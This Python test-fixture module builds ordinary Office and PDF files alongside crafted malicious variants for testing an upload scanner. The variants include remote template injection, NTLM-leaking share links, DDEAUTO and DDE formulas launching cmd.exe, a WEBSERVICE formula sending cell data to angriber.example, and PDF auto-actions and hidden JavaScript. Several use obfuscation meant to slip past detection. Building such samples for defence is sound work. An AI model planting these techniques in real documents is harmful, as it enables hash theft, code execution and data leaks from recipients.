"""Evidence files built for the tests and bench/evidence.py: ordinary Word, Excel and PDF
files as a municipality uploads them, and the crafted ones of issue 20, each a small change
of an ordinary one. No Django here, so the bench can build them before Django is set up."""

import io
import struct
import zipfile
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
    b"\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


def zip_of(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _parts(package):
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- Word ------------------------------------------------------------------------------------


def _relationships(*rows):
    """A .rels part; each row (id, type's last segment, target[, "External"])."""
    lines = []
    for rid, kind, target, *mode in rows:
        extra = f' TargetMode="{mode[0]}"' if mode else ""
        lines.append(f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{extra}/>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(lines)
        + "</Relationships>"
    )


def _field(instruction, result):
    """A complex field as Word writes it: begin, instruction, separate, result, end."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


ORDINARY_BODY = (
    '<w:p><w:pPr><w:pStyle w:val="Overskrift1"/></w:pPr><w:r><w:t>Status på akutfunktionen'
    "</w:t></w:r></w:p>"
    # A table of contents: fields with internal hyperlinks and page references.
    + "<w:p>"
    + _field('TOC \\o "1-3" \\h \\z \\u', "")
    + "</w:p><w:p>"
    + _field('HYPERLINK \\l "_Toc1"', "Status")
    + _field("PAGEREF _Toc1 \\h", "1")
    + "</w:p>"
    '<w:p><w:r><w:t xml:space="preserve">Se kvalitetsstandarden på </w:t></w:r>'
    '<w:hyperlink r:id="rId8"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr>'
    "<w:t>sundhed.dk</w:t></w:r></w:hyperlink><w:r><w:t>.</w:t></w:r></w:p>"
    + "<w:p>"
    + _field('HYPERLINK "https://www.regionh.dk/akut"', "Regionens side")
    + "</w:p>"
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
    'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.'
    'org/drawingml/2006/main"><a:graphicData><a:blip r:embed="rId7"/></a:graphicData>'
    "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


def word_document(body=ORDINARY_BODY, *, document_rels=(), settings_rels=(), parts=None):
    """A Word document as Word writes one: styles, settings, fonts, theme, a footer with a
    page number, a picture, a table of contents and links to web pages; `body` replaces the
    text, `document_rels` and `settings_rels` add relationships, `parts` adds or replaces
    parts."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="rtf" ContentType="application/rtf"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>"
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}'
        '<w:sectPr><w:footerReference w:type="default" r:id="rId6"/></w:sectPr>'
        "</w:body></w:document>"
    )
    footer = (
        f'<w:ftr xmlns:w="{W}"><w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT ">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:ftr>"
    )
    package = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": _relationships(
            ("rId1", "officeDocument", "word/document.xml"),
            ("rId2", "extended-properties", "docProps/app.xml"),
        ),
        "docProps/app.xml": "<Properties><Application>Microsoft Office Word</Application>"
        "<Template>Normal.dotm</Template></Properties>",
        "word/document.xml": document,
        "word/_rels/document.xml.rels": _relationships(
            ("rId1", "styles", "styles.xml"),
            ("rId2", "settings", "settings.xml"),
            ("rId3", "fontTable", "fontTable.xml"),
            ("rId4", "theme", "theme/theme1.xml"),
            ("rId5", "webSettings", "webSettings.xml"),
            ("rId6", "footer", "footer1.xml"),
            ("rId7", "image", "media/image1.png"),
            ("rId8", "hyperlink", "https://www.sundhed.dk/borger/", "External"),
            *document_rels,
        ),
        "word/styles.xml": f'<w:styles xmlns:w="{W}"><w:style w:styleId="Overskrift1"/></w:styles>',
        "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:zoom w:percent="100"/>'
        "</w:settings>",
        "word/fontTable.xml": f'<w:fonts xmlns:w="{W}"><w:font w:name="Calibri"/></w:fonts>',
        "word/webSettings.xml": f'<w:webSettings xmlns:w="{W}"/>',
        "word/theme/theme1.xml": '<a:theme xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main" name="Office"/>',
        "word/footer1.xml": footer,
        "word/media/image1.png": PNG,
    }
    if settings_rels:
        package["word/_rels/settings.xml.rels"] = _relationships(*settings_rels)
    package.update(parts or {})
    return zip_of(package)


def template_from_the_web():
    """A document whose attached template (with its macros) Word loads from a web server."""
    settings = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    return word_document(
        settings_rels=[("rId1", "attachedTemplate", "http://angriber.example/s.dotm", "External")],
        parts={"word/settings.xml": settings},
    )


def template_from_the_web_in_utf16():
    """The same, its relationships written in UTF-16, which Word reads as well."""
    parts = _parts(template_from_the_web())
    rels = (
        parts["word/_rels/settings.xml.rels"]
        .decode()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    parts["word/_rels/settings.xml.rels"] = rels.encode("utf-16")
    return zip_of(parts)


def template_behind_a_quoted_gt():
    """The template from the web, a `>` in its address (XML allows one in a quoted value)
    ahead of the relationship's type and mode, as if it ended the tag there."""
    parts = _parts(template_from_the_web())
    parts["word/_rels/settings.xml.rels"] = _relationships().replace(
        "</Relationships>",
        '<Relationship Target="http://angriber.example/s.dotm?a>b" '
        f'Type="{R}/attachedTemplate" TargetMode="External" Id="rId1"/></Relationships>',
    )
    return zip_of(parts)


def picture_from_a_share():
    """A picture Word fetches from a network share: Windows hands the reader's password hash
    to it (the NTLM leak)."""
    body = ORDINARY_BODY.replace('r:embed="rId7"', 'r:link="rId20"')
    return word_document(
        body, document_rels=[("rId20", "image", "file://///angriber.example/del/x.png", "External")]
    )


def rtf_with_an_object():
    """An altChunk: an RTF document inserted whole, carrying an OLE object (`\\objdata`)."""
    rtf = (
        b"{\\rtf1\\ansi{\\fonttbl\\f0 Calibri;}\\pard Bilag\\par"
        + b" " * 5000  # well past the first bytes of the part
        + b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}"
    )
    return word_document(
        ORDINARY_BODY + '<w:altChunk r:id="rId21"/>',
        document_rels=[("rId21", "aFChunk", "bilag.rtf")],
        parts={"word/bilag.rtf": rtf},
    )


def dde_field_in_word():
    """A DDEAUTO field that starts a program when the document opens, its name split over two
    runs and written with a character reference, as attackers do."""
    body = (
        ORDINARY_BODY + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> &#68;DE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return word_document(body)


# An attribute Word is told to ignore (markup compatibility), free to hold a `>`.
IGNORED = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:x="urn:x" mc:Ignorable="x" x:a=">"'
)


def dde_field_behind_a_quoted_gt():
    """The DDEAUTO field, an ignored attribute holding a `>` in its field characters and
    instruction, ahead of the field's type and text."""
    body = (
        ORDINARY_BODY + f'<w:p><w:r><w:fldChar {IGNORED} w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText {IGNORED} xml:space="preserve">DDEAUTO c:\\\\windows\\\\'
        'system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return word_document(body)


# --- Excel -----------------------------------------------------------------------------------


def vml_picture_from_a_share():
    """An old-style (VML) picture whose source is a share, with no relationship at all."""
    body = ORDINARY_BODY + (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        'src="\\\\angriber.example\\del\\x.png"/></v:shape></w:pict></w:r></w:p>'
    )
    return word_document(body)


def link_to_a_file():
    """A hyperlink relationship to a file on a share (a click sends the password hash)."""
    body = ORDINARY_BODY.replace('r:id="rId8"', 'r:id="rId22"')
    return word_document(
        body, document_rels=[("rId22", "hyperlink", "file://angriber.example/del/x", "External")]
    )


def picture_field_from_the_web():
    """INCLUDEPICTURE: Word fetches the picture from the address when fields update."""
    body = ORDINARY_BODY + (
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://angriber.example/p.png&quot; '
        '\\* MERGEFORMATINET "><w:r><w:t>billede</w:t></w:r></w:fldSimple></w:p>'
    )
    return word_document(body)


def excel_workbook(*, formula=None, rows=50):
    """A workbook as a municipality keeps its figures: two sheets, numbers, dates, sums, a
    link to a web page, a frozen header and column widths (openpyxl); `formula` goes in D2,
    and the first sheet has `rows` rows of figures."""
    import datetime

    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    sheet.title = "Indlæggelser"
    sheet.append(["Kommune", "Dato", "Antal", "Andel"])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in range(2, rows + 2):
        sheet.append([f"Kommune {row}", datetime.date(2025, 1, row % 28 + 1), row * 3, row / 100])
    sheet["F1"] = "I alt"
    sheet["F2"] = f"=SUM(C2:C{rows + 1})"
    sheet["F3"] = '=IF(F2>100,"Over","Under")'
    sheet["F4"] = "Kilde"
    sheet["F4"].hyperlink = "https://www.statistikbanken.dk/UNGE1"
    sheet.freeze_panes = "A2"
    sheet.column_dimensions["A"].width = 24
    if formula:
        sheet["D2"] = formula
    notes = book.create_sheet("Noter")
    notes["A1"] = "Tallene er fra regionens opgørelse."
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def dde_formula_in_excel():
    """A cell whose formula asks DDE to run a program (`cmd|' /C calc'!A0`)."""
    return excel_workbook(formula="=cmd|' /C calc'!A0")


def webservice_formula():
    """A formula that fetches an address each time the sheet is calculated."""
    return excel_workbook(formula='=WEBSERVICE("https://angriber.example/?"&A2)')


def workbook_with_a_table_column():
    """An ordinary formula summing a table's column (`Tabel1[Antal]`) and reading another
    sheet: brackets and a sheet name, but no other workbook."""
    return excel_workbook(formula="=SUM(Tabel1[Antal])+Noter!A1")


def formula_from_a_workbook_on_the_web():
    """A cell that reads a cell of a workbook on a web server, named by its address."""
    return excel_workbook(formula="='http://angriber.example/[tal.xlsx]Ark1'!A1")


def webservice_formula_behind_a_quoted_gt():
    """The WEBSERVICE formula, its cell's formula element holding an ignored attribute with
    a `>`."""
    parts = _parts(webservice_formula())
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"<f>WEBSERVICE", f"<f {IGNORED}>WEBSERVICE".encode(), 1
    )
    return zip_of(parts)


def excel_with_printer_settings():
    """A workbook whose page setup was touched: Excel keeps the printer's settings as a .bin
    part (a Windows DEVMODE, the printer's name first), which is no program."""
    parts = _parts(excel_workbook())
    parts["xl/printerSettings/printerSettings1.bin"] = "Rådhusets printer".encode(
        "utf-16-le"
    ).ljust(220, b"\x00")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Default ",
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.printerSettings"/><Default ',
        1,
    )
    return zip_of(parts)


def dde_link_in_excel():
    """An external link part holding a DDE link, as Excel keeps `=cmd|…` links."""
    parts = _parts(excel_workbook())
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
        b"</ddeItems></ddeLink></externalLink>"
    )
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{R}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>',
    ).encode()
    return zip_of(parts)


# --- PDF -------------------------------------------------------------------------------------


def raw_pdf(*objects, trailer=b""):
    """A PDF of `objects` (the bodies of objects 1, 2, …; object 1 the catalogue) with a
    correct cross-reference table: for what pypdf would not write (escaped names)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
)


def pdf_with(catalogue_extra=b"", annotation=b"<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] >>"):
    """A one-page PDF whose catalogue gets `catalogue_extra` and whose page `annotation`."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue_extra + b" >>", *PAGES, annotation
    )


def uri_on_opening():
    """Opening the PDF opens an address (a tracking pixel, or worse), its names escaped."""
    return pdf_with(b"/OpenAction << /#53 /U#52I /URI (https://angriber.example/spor) >>")


def uri_named_by_reference():
    """The same, the action's type kept in an object of its own (`/S 5 0 R`)."""
    catalogue = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S 5 0 R /URI (https://a.example/) >> >>"
    )
    return raw_pdf(catalogue, *PAGES, b"<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] >>", b"/URI")


def remote_rendition():
    """A screen annotation that plays media fetched from a web server when the page shows."""
    return pdf_with(
        annotation=b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /AA << /PO << /S "
        b"/Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F "
        b"(https://angriber.example/film.mp4) >> >> >> >> >> >>"
    )


def file_link():
    """A link to a file on a network share: a click hands the password hash over."""
    return pdf_with(
        annotation=b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI "
        b"<66696c653a2f2f2f2f616e6772696265722e6578616d706c652f64656c2f782e706466> >> >>"
    )


def web_link():
    """A link a reader clicks to a web page, as Word and WeasyPrint export them."""
    return pdf_with(
        annotation=b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /Border [0 0 0] "
        b"/A << /Type /Action /S /URI /URI (https://www.sundhed.dk/) >> >>"
    )


def packed_pdf(catalogue_extra, bodies, per_stream=1000):
    """A PDF whose objects `bodies` are packed in compressed object streams of `per_stream`
    each, with a cross-reference stream; `catalogue_extra(first)` goes in the catalogue,
    `first` being the number of the first packed object."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets, where = {}, {}
    streams = -(-len(bodies) // per_stream)
    first = 4 + streams

    def write(number, body):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    write(1, b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue_extra(first))
    write(2, PAGES[0])
    write(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    for stream in range(streams):
        chunk = bodies[stream * per_stream : (stream + 1) * per_stream]
        header, position = [], 0
        for index, body in enumerate(chunk):
            number = first + stream * per_stream + index
            header.append(b"%d %d" % (number, position))
            position += len(body) + 1
            where[number] = (4 + stream, index)
        head = b" ".join(header) + b"\n"
        data = zlib.compress(head + b" ".join(chunk) + b" ", 9)
        write(
            4 + stream,
            b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s"
            b"\nendstream" % (len(chunk), len(head), len(data), data),
        )
    xref = first + len(bodies)
    offsets[xref] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref + 1):
        packed = where.get(number)
        rows.append(
            struct.pack(">BIH", 2, *packed)
            if packed
            else struct.pack(">BIH", 1, offsets[number], 0)
        )
    data = zlib.compress(b"".join(rows))
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n%s\nendstream\nendobj\n" % (xref, xref + 1, len(data), data)
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref])
    return out.getvalue()


def many_objects_pdf(count=199_000):
    """Issue 20's PDF: `count` tiny objects, each pointing at the next, packed in compressed
    object streams, all reachable from the catalogue (1.9 MB for 199,000)."""
    first = 4 + -(-count // 1000)
    bodies = [b"[%d 0 R]" % (first + i + 1) for i in range(count - 1)] + [b"null"]
    return packed_pdf(lambda first: b"/Extra %d 0 R" % first, bodies)


def script_in_an_object_stream():
    """JavaScript run on opening, its action compressed inside an object stream and its
    name escaped: nothing of it shows in the file's bytes."""
    return packed_pdf(
        lambda first: b"/OpenAction %d 0 R" % first,
        [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"],
    )


def link_that_opens_on_hover():
    """A link whose additional action opens an address when the pointer passes over it."""
    return pdf_with(
        annotation=b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI "
        b"(https://www.sundhed.dk/) >> /AA << /E << /S /URI /URI (https://angriber.example/) "
        b">> >> >>"
    )


def padded_pdf(size):
    """A one-page PDF of exactly `size` bytes, most of it a stream of picture-like data, as
    a scanned page makes a PDF large."""

    def build(padding):
        stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (padding, b"\x00" * padding)
        return pdf_with(annotation=stream)

    padding = size - len(build(0))
    while len(build(padding)) != size:
        padding -= len(build(padding)) - size
    return build(padding)
